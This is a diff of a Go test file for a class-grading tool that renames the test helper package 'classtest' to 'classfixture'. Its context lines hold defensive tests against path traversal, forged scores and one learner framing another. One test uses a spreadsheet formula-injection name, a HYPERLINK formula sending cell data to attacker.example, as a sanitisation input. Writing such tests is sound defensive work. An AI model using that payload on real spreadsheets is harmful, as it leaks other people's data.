@@ -23,10 +23,10 @@ import (
 	"time"
 
 	"github.com/labhub/cnpa/internal/class"
-	"github.com/labhub/cnpa/internal/class/classtest"
 	"github.com/labhub/cnpa/internal/judge"
 	"github.com/labhub/cnpa/internal/submission"
 	"github.com/labhub/cnpa/internal/ui"
+	"github.com/labhub/cnpa/test/kit/classfixture"
 )
 
 // server is a learner's API server: it logs every request's path and
@@ -112,11 +112,11 @@ func indent(s, by string) string {
 
 // learner is one forged learner: a good submission of their own.
 func learner(t *testing.T, name string, i int) *submission.Submission {
-	c, err := classtest.Good(name, i)
+	c, err := classfixture.Good(name, i)
 	if err != nil {
 		t.Fatal(err)
 	}
-	p, err := classtest.Write(t.TempDir(), c)
+	p, err := classfixture.Write(t.TempDir(), c)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -267,7 +267,7 @@ func TestResponseSizeIsLimited(t *testing.T) {
 // N3: a submission larger than the cap is refused with a clear error,
 // before it is parsed; cnpa submit never writes one.
 func TestOversizeSubmission(t *testing.T) {
-	c, err := classtest.Good("big", 1)
+	c, err := classfixture.Good("big", 1)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -300,20 +300,20 @@ func TestOneBadSubmissionNeverStopsTheClass(t *testing.T) {
 		}
 	}
 	for i, name := range []string{"alice", "gina"} {
-		c, err := classtest.Good(name, i+1)
+		c, err := classfixture.Good(name, i+1)
 		if err != nil {
 			t.Fatal(err)
 		}
 		write(name+".json", c)
 	}
-	dots, err := classtest.Good("dot", 3)
+	dots, err := classfixture.Good("dot", 3)
 	if err != nil {
 		t.Fatal(err)
 	}
 	dots.Timelines[".."] = "{}"
 	dots.Timelines["timeline-step5.json.bak"] = "{}"
 	write("dot.json", dots)
-	framer, err := classtest.Good("gina", 4)
+	framer, err := classfixture.Good("gina", 4)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -324,7 +324,7 @@ func TestOneBadSubmissionNeverStopsTheClass(t *testing.T) {
 	if err != nil {
 		t.Fatalf("Load: %v", err)
 	}
-	gb, err := class.Grade(subs, class.Options{Version: classtest.Version, Now: time.Now(), Unreadable: bad})
+	gb, err := class.Grade(subs, class.Options{Version: classfixture.Version, Now: time.Now(), Unreadable: bad})
 	if err != nil {
 		t.Fatalf("Grade: %v", err)
 	}
@@ -372,19 +372,19 @@ func TestNothingRawReachesTerminalOrSheet(t *testing.T) {
 	}
 	var reach []class.Reach
 	for i, name := range []string{"=HYPERLINK(\"https://attacker.example/?leak=\"&A3&B3,\"x\")", "@SUM(A1)", "+1", "-1", "erin"} {
-		c, err := classtest.Good(name, i+1)
+		c, err := classfixture.Good(name, i+1)
 		if err != nil {
 			t.Fatal(err)
 		}
 		write(fmt.Sprintf("l%d.json", i), c)
 		reach = append(reach, class.Reach{Name: name, Kubeconfig: kubeconfig(t, dir, fmt.Sprintf("l%d", i), s, "", "token: t")})
 	}
-	carol, err := classtest.Good("carol"+escapes, 9)
+	carol, err := classfixture.Good("carol"+escapes, 9)
 	if err != nil {
 		t.Fatal(err)
 	}
 	write("carol.json", carol)
-	formula, err := classtest.Good("frank", 10)
+	formula, err := classfixture.Good("frank", 10)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -407,7 +407,7 @@ func TestNothingRawReachesTerminalOrSheet(t *testing.T) {
 	if r := live["erin"]; r == nil || !strings.Contains(r.Detail, "OWNED") {
 		t.Fatalf("erin's server's message is not in her row: %+v", r)
 	}
-	gb, err := class.Grade(subs, class.Options{Version: classtest.Version, Now: time.Now(), Live: live, Unreadable: bad})
+	gb, err := class.Grade(subs, class.Options{Version: classfixture.Version, Now: time.Now(), Live: live, Unreadable: bad})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -448,11 +448,11 @@ func TestNothingRawReachesTerminalOrSheet(t *testing.T) {
 // twice and at another step, count for nothing and flag the submission
 // tampered; the score is the honest one.
 func TestInventedChecksCountForNothing(t *testing.T) {
-	honest, err := classtest.Good("hal", 1)
+	honest, err := classfixture.Good("hal", 1)
 	if err != nil {
 		t.Fatal(err)
 	}
-	forged, err := classtest.Good("mal", 2)
+	forged, err := classfixture.Good("mal", 2)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -470,7 +470,7 @@ func TestInventedChecksCountForNothing(t *testing.T) {
 	forged.Passed += 301
 	dir := t.TempDir()
 	for _, c := range []*submission.Content{honest, forged} {
-		if _, err := classtest.Write(dir, c); err != nil {
+		if _, err := classfixture.Write(dir, c); err != nil {
 			t.Fatal(err)
 		}
 	}
@@ -478,7 +478,7 @@ func TestInventedChecksCountForNothing(t *testing.T) {
 	if err != nil || len(bad) > 0 {
 		t.Fatalf("Load: %v %v", bad, err)
 	}
-	gb, err := class.Grade(subs, class.Options{Version: classtest.Version, Now: time.Now()})
+	gb, err := class.Grade(subs, class.Options{Version: classfixture.Version, Now: time.Now()})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -504,11 +504,11 @@ func TestInventedChecksCountForNothing(t *testing.T) {
 // re-hashes: both claim the object, so neither is named the source, and
 // both are flagged shares-uids-with; gina is never copied-from:mallory.
 func TestOneLearnerCannotFrameAnother(t *testing.T) {
-	gina, err := classtest.Good("gina", 1)
+	gina, err := classfixture.Good("gina", 1)
 	if err != nil {
 		t.Fatal(err)
 	}
-	mallory, err := classtest.Good("mallory", 2)
+	mallory, err := classfixture.Good("mallory", 2)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -520,7 +520,7 @@ func TestOneLearnerCannotFrameAnother(t *testing.T) {
 	for i := range mallory.Facts.TeamAlpha.OwnerReferences {
 		mallory.Facts.TeamAlpha.OwnerReferences[i].UID = gina.Facts.Alpha.UID
 	}
-	if err := classtest.Record(mallory); err != nil {
+	if err := classfixture.Record(mallory); err != nil {
 		t.Fatal(err)
 	}
 	dir := t.TempDir()
@@ -534,7 +534,7 @@ func TestOneLearnerCannotFrameAnother(t *testing.T) {
 	if err != nil || len(bad) > 0 {
 		t.Fatalf("Load: %v %v", bad, err)
 	}
-	gb, err := class.Grade(subs, class.Options{Version: classtest.Version, Now: time.Now()})
+	gb, err := class.Grade(subs, class.Options{Version: classfixture.Version, Now: time.Now()})
 	if err != nil {
 		t.Fatal(err)
 	}
